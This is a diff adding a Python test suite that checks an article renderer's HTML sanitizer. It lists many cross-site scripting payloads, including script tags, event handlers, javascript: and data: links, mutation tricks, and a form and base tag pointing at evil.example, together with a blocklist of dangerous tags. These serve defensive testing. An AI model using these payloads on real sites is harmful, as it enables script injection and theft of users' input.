@@ -1,0 +1,171 @@
+"""HTML in articles: nothing in it can run, unless the site trusts its authors."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from digest.content.html import make_safe
+from digest.content.parse import ParseSettings, parse
+from tests.sites import CONFIG, article, attributes_in, body_of, build, make_site, tags_in
+
+DANGEROUS_TAGS = {
+    "script",
+    "style",
+    "iframe",
+    "object",
+    "embed",
+    "form",
+    "input",
+    "button",
+    "base",
+    "meta",
+    "link",
+    "svg",
+    "math",
+}
+
+
+def stored(body: str, safe: bool = True) -> str:
+    text = f"---\ntitle: T\ndate: 2023-03-08\n---\n{body}\n"
+    parsed = parse(ParseSettings("UTC", (), safe), "a.md", text.encode())
+    return parsed.html
+
+
+def dangers(html: str) -> list[object]:
+    """What in this HTML could run, as a browser reads it."""
+    found: list[object] = [tag for tag in tags_in(html) if tag in DANGEROUS_TAGS]
+    for tag, name, value in attributes_in(html):
+        scheme = "".join(value.split()).partition(":")[0].lower()
+        scheme = "".join(sign for sign in scheme if sign > " ")
+        if (
+            name.startswith("on")
+            or scheme in ("javascript", "vbscript", "data")
+            or (name == "style" and value.replace(" ", "").partition(":")[0] not in ("", "text-align"))
+            or name in ("srcdoc", "formaction")
+        ):
+            found.append((tag, name, value))
+    return found
+
+
+ATTACKS = {
+    "script": "<script>alert(1)</script>",
+    "script in a line": "Text <SCRIPT SRC=//evil.example/x.js></SCRIPT> more",
+    "handler": "<img src=x onerror=alert(1)>",
+    "handler without spaces": "<img/src=x/onerror=alert(1)>",
+    "link": "[x](javascript:alert(1))",
+    "link in disguise": "[x](JaVa&#09;Script:alert(1))",
+    "link in HTML": '<a href=" javascript:alert(1)">x</a>',
+    "data address": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "frame": '<iframe src="https://evil.example/"></iframe>',
+    "style": "<style>body{display:none}</style>",
+    "style attribute": '<p style="position:fixed;inset:0">x</p>',
+    "style of a cell": '<table><tr><td style="background:url(//evil.example/)">x</td></tr></table>',
+    "form": '<form action="//evil.example/"><input name=p><button>Go</button></form>',
+    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "math": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "base": '<base href="//evil.example/">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "attribute list": "[x](https://nato.int){: onclick=alert(1) style=color:red }",
+    "heading": "## <img src=x onerror=alert(1)>",
+    "code that ends early": "```html\n</code></pre><script>alert(1)</script>\n```",
+    "footnote": "x[^1]\n\n[^1]: <script>alert(1)</script>",
+    "abbreviation": 'NATO\n\n*[NATO]: "><script>alert(1)</script>',
+    "picture": "![x](javascript:alert(1))",
+    "marker": "<a href='\ue000x\ue001 \" onclick=alert(1)'>x</a>",
+    "reference": "[x]\n\n[x]: javascript:alert(1)",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "title with a quote": '[x](a.md "\\" onclick=alert(1)")',
+}
+
+
+@pytest.mark.parametrize("body", ATTACKS.values(), ids=ATTACKS.keys())
+def test_nothing_can_run(body: str) -> None:
+    assert dangers(stored(body)) == []
+
+
+def test_the_check_sees_dangers() -> None:
+    raw = "".join(ATTACKS[name] for name in ("script", "handler", "link in HTML", "style attribute", "frame"))
+    assert len(dangers(raw)) == 5
+
+
+PIECES = st.sampled_from(
+    [
+        *ATTACKS.values(), "<", ">", '"', "'", "&", "\n\n", "\n", "    ", "`", "```\n", "](", "[x", "<a href=",
+        "<img src=", " onclick=", "alert(1)", "javascript:", "<!--", "-->", "]]>", "<![CDATA[", "</p>",
+        "<table><tr><td>", "{: ", " }", "\\", "| a | b |", "<svg>", "<math>", "<style>", "</style>", "<noscript>",
+        "<template>", "<textarea>", "</textarea>", "<title>",
+    ]
+)  # fmt: skip
+
+
+@given(st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join))
+def test_no_mixture_can_run(body: str) -> None:
+    assert dangers(stored(body)) == []
+
+
+@given(st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join))
+def test_what_is_safe_stays_as_it_is(html: str) -> None:
+    once = make_safe(html)
+    assert dangers(once) == []
+    assert dangers(make_safe(once)) == []
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<a href="https://nato.int" hreflang="en" rel="nofollow">x</a>',
+        '<a href="mailto:desk@example.org">x</a>',
+        '<figure><img alt="A map" src="https://nato.int/a.png"><figcaption>Map</figcaption></figure>',
+        '<time datetime="2023-03-08">8 March</time>',
+        '<video controls="" src="https://nato.int/a.mp4"></video>',
+        "<details><summary>More</summary>Text</details>",
+        '<p lang="uk" dir="ltr" class="x" id="y" title="z">x</p>',
+    ],
+)
+def test_harmless_html_stays(html: str) -> None:
+    kept = make_safe(html)
+    assert sorted(attributes_in(kept)) == sorted(attributes_in(html))
+    assert tags_in(kept) == tags_in(html)
+
+
+RAW = '<div onclick="x()" style="color:red"><script>var a = 1;</script></div>\n\n<iframe src="https://example.org/"></iframe>'
+
+
+def test_trusted_html_passes_through(tmp_path: Path) -> None:
+    site = make_site(tmp_path, {"content/a.md": article(body=RAW)}, CONFIG + "markdown: {html: trusted}\n")
+    build(site)
+    found = body_of(site, "2023/03/08/a/")
+    assert '<div onclick="x()" style="color:red"><script>var a = 1;</script></div>' in found
+    assert '<iframe src="https://example.org/"></iframe>' in found
+
+
+def test_change_of_trust_renews_the_pages(tmp_path: Path) -> None:
+    site = make_site(tmp_path, {"content/a.md": article(body=RAW)})
+    build(site)
+    assert dangers(body_of(site, "2023/03/08/a/")) == []
+    (site / "digest.yaml").write_text(CONFIG + "markdown: {html: trusted}\n", encoding="utf-8")
+    build(site)
+    assert "<iframe" in body_of(site, "2023/03/08/a/")
+    (site / "digest.yaml").write_text(CONFIG, encoding="utf-8")
+    build(site)
+    assert dangers(body_of(site, "2023/03/08/a/")) == []
+
+
+FIELDS = ("title", "summary", "deck", "author", "source", "thread", "id")
+
+
+@pytest.mark.parametrize("name", FIELDS)
+def test_front_matter_is_text_and_not_html(tmp_path: Path, name: str) -> None:
+    evil = "'\"><script>alert(1)</script></script>'"
+    fields = {name: evil} if name != "title" else {}
+    text = article(evil if name == "title" else "A", slug="a", **fields)
+    site = make_site(tmp_path, {"content/a.md": text, "content/b.md": article("B", "2023-03-09")})
+    build(site)
+    for path in (site / "output").rglob("*.html"):
+        scripts = [tag for tag in tags_in(path.read_text(encoding="utf-8")) if tag == "script"]
+        ours = path.parent.name in ("a", "b")  # the NewsArticle metadata
+        assert len(scripts) == (1 if ours else 0), path
